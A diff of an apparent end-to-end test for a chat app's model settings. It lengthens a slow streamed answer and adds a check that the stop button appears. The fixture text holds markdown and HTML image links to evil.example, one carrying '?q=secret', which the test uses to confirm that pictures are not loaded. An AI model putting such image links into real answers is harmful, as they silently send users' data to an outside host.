@@ -136,7 +136,7 @@ def test_a_model_is_set_up_streams_can_be_stopped_and_cannot_load_pictures(visit
         "The lamp burned 11 barrels of oil every winter [1]. ![x](https://evil.example/a.png?q=secret) "
         "<img src='https://evil.example/b.png'> [more](https://evil.example/) costs $5 and $6 :material/delete:"
     )
-    slow = Script("The lamp " + "burned and " * 200, pause=0.05)
+    slow = Script("The lamp " + "burned and " * 600, pause=0.05)
     with OpenAiServer() as model:
         page = visitor.open("/settings")
         form = visitor.model_form()
@@ -162,6 +162,8 @@ def test_a_model_is_set_up_streams_can_be_stopped_and_cannot_load_pictures(visit
             expect(answer_of(page)).to_contain_text("burned and burned")
 
             visitor.ask("And in the end?")
+            # The answer before says the same: only the button tells that this one has begun.
+            expect(page.get_by_test_id("stChatInputStopButton")).to_be_visible()
             expect(answer_of(page)).to_contain_text("burned and burned")
             page.reload()
             expect(answer_of(page)).to_contain_text("burned and burned")
